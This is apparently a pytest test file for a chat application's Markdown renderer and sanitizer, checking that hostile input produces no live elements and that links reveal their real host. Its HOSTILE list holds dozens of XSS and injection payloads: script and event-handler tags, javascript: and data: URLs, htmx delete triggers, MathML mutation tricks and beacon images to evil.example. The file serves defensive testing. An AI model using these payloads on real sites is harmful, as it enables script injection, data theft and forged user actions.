"""Hostile Markdown: no script runs, no external resource loads, and no form is submitted."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chats.rendering.fragments import (
    OPEN_DONE,
    OPEN_REST,
    build_delta_fragments,
    build_snapshot_fragments,
)
from chats.rendering.localized import localise_html
from chats.rendering.markdown import render_markdown
from chats.rendering.sanitize import CLASSES, TAGS, sanitize_html
from tests.support.allowed_markup import ALLOWED_ATTRIBUTES

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=/chats/1/delete method=post><button>x</button></form>",
    "<div hx-post=/chats/1/delete hx-trigger=load>x</div>",
    "<div data-hx-get=/x hx-on:load=alert(1) sse-connect=/x ws-connect=/x _='on load' x-init=1>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>",
    "<input name=csrfmiddlewaretoken value=x form=composer id=composer-text>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/chats/1/delete)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](<https://a.example/> "title" onclick=alert(1))',
    "<javascript:alert(1)>",
    "<https://a.example/'onclick='alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python\n'<img src=x onerror=alert(1)>'\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    '| a |\n|:-" onclick="alert(1)-:|\n| b |',
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onmouseover=alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></article><script>alert(1)</script>",
    "\n\nevent: done\ndata: x\n\n",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\ud800<script>alert(1)</script>",
    "# <a id=main name=composer>x</a>",
    "- <p style='position:fixed'>x</p>",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    r"$\style{position:fixed}{x}$ $\class{x}{y}$ $\cssId{main}{z}$ $\htmlData{hx-get=/x}{y}$",
    r"$\begin{array}{c}\text{\"onclick=\"alert(1)}\end{array}$",
    r"$$\color{red;background:url(https://evil.example/)}x$$",
    r"\[\unicode{x3c}script\unicode{x3e}\]",
    "$<math><mi//xlink:href='data:x,<script>alert(4)</script>'>$",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math><maction actiontype=statusline>x</maction>",
    "- [ ] <input type=text name=x autofocus onfocus=alert(1)>",
    "- [x] [x](javascript:alert(1))",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "[^a]\n\n[^a]: <li class=note value=1 onclick=alert(1)> <sup class='note first'>1</sup>",
]


class Elements(HTMLParser):
    """Collect the elements of the HTML and check each one against the allowlist."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Check one element."""
        self.found.append(tag)
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES, f"{tag} {name}={value}"
            if name == "href":
                assert (value or "").startswith(("https://", "http://", "mailto:")), value
            if name == "class":
                assert set((value or "").split()) <= CLASSES[tag], value
        if tag == "a" and any(name == "href" for name, _ in attrs):
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow ugc"

    def handle_comment(self, data: str) -> None:
        """Fail: the renderer never emits comments."""
        raise AssertionError(data)


def elements(html: str) -> list[str]:
    """Return the names of the elements in the HTML. Fails if one is not allowed."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_S04_a_hostile_text_leaves_no_live_element(text: str) -> None:
    elements(render_markdown(text))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_S04_a_hostile_text_within_other_blocks_leaves_no_live_element(text: str) -> None:
    for frame in (
        "> {}",
        "- {}",
        "1. a\n   {}",
        "**{}**",
        "[{}](https://a.example)",
        "x\n\n{}\n\ny",
    ):
        elements(render_markdown(frame.format(text)))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_S04_the_sanitizer_alone_leaves_no_live_element(text: str) -> None:
    elements(sanitize_html(text.encode("utf-8", "replace").decode()))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_S04_a_stream_of_a_hostile_text_has_only_our_own_attributes(text: str) -> None:
    text = text.encode("utf-8", "replace").decode()
    fragments = build_snapshot_fragments(text + "\n\n")
    fragments += build_delta_fragments(text[: len(text) // 2], text + "\n\nnext")
    for _, html in fragments:
        rest = html
        for own in (
            OPEN_DONE,
            OPEN_REST,
            '<div class="block" hx-disable>',
            '<span sse-swap="delta" hx-swap="beforeend">',
        ):
            rest = rest.replace(own, "<div>" if own.startswith("<div") else "<span>")
        elements(rest)


@given(st.text(alphabet="<>\"'=()[]!*_`~#|-:/\\& \n\tax1.https:javascript", max_size=200))
def test_S04_any_mix_of_marks_leaves_no_live_element(text: str) -> None:
    elements(render_markdown(text))


def test_S06_an_image_is_a_link_that_says_where_it_lies() -> None:
    html = localise_html(render_markdown("![a chart](https://evil.example/x.png?q=secret)"))

    assert "img" not in elements(html)
    assert "image on <bdi>evil.example</bdi>: a chart" in html


def test_an_image_without_a_web_address_is_words_only() -> None:
    assert elements(localise_html(render_markdown("![a chart](/media/x.png)"))) == ["p"]


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[docs](https://evil.example/x)", "evil.example"),
        ("[https://good.example](https://evil.example/x)", "evil.example"),
        ("[good.example.evil](https://good.example/x)", "good.example"),
        ("[x](https://good.example@evil.example/)", "evil.example"),
        ("[write](mailto:a@b.example)", "a@b.example"),
        ("<https://аpple.com/>", "xn--pple-43d.com"),
    ],
)
def test_S06_a_link_that_hides_its_host_is_followed_by_it(text: str, host: str) -> None:
    assert f"(<bdi>{host}</bdi>)" in render_markdown(text)


@pytest.mark.parametrize(
    "text", ["<https://a.example/x>", "https://a.example/x", "[a.example/x](https://a.example/x)"]
)
def test_a_link_that_is_its_own_address_stands_alone(text: str) -> None:
    assert "link__host" not in render_markdown(text)


def test_a_script_writes_only_itself_into_the_page() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")
